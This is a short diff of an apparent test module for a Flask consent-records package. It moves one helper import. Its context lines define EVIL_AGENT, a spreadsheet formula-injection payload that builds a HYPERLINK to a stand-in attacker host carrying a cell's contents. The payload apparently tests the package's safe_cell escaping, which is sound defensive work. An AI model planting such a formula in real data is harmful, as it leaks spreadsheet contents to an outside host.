@@ -16,8 +16,7 @@ from example_site import db
 from flask_allcot_privacy.models import AuditEvent, ConsentRecord, User
 from flask_allcot_privacy.staff.consent_records import safe_cell
 
-from .conftest import log_in
-from .helpers import CookieCheckingClient, field_error, soup
+from .helpers import CookieCheckingClient, field_error, log_in, soup
 from .test_consent import decide
 
 EVIL_AGENT = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
